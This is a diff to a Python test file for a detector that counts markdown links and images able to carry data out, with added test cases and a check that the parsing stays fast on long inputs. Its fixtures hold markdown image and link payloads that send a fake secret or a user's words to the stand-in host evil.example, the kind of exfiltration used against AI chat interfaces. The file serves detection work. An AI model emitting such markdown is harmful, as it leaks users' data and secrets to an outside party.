@@ -20,6 +20,8 @@ SECRET = "c2stbGl2ZS1hYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk="
         "![x](https://evil.example/?q=the+user+said+that+the+code+is+1234)",
         f"[click](https://evil.example/login?next={SECRET}{SECRET})",
         f"[click](https://evil.example/{SECRET})",
+        f"![a [b] c](https://evil.example/p.png?d={SECRET})",
+        f"[x] and ![](https://evil.example/p.png?d={SECRET})",
     ],
 )
 def test_what_could_carry_data(text: str) -> None:
@@ -46,7 +48,10 @@ def test_what_is_of_every_day(text: str) -> None:
     assert carriers(text) == 0
 
 
-@pytest.mark.parametrize("unit", ["![", "![]( https://", "<img ", "[a](https://x/?a=", "?a=&"])
+UNITS = ["![", "![]( https://", "<img ", "[a](https://x/?a=", "?a=&", "[", "](https://x ", "[]"]
+
+
+@pytest.mark.parametrize("unit", UNITS)
 def test_no_text_takes_long(unit: str) -> None:
     """It would not end in anybody's time if it went back and forth."""
     assert carriers(unit * 20_000) < 1000
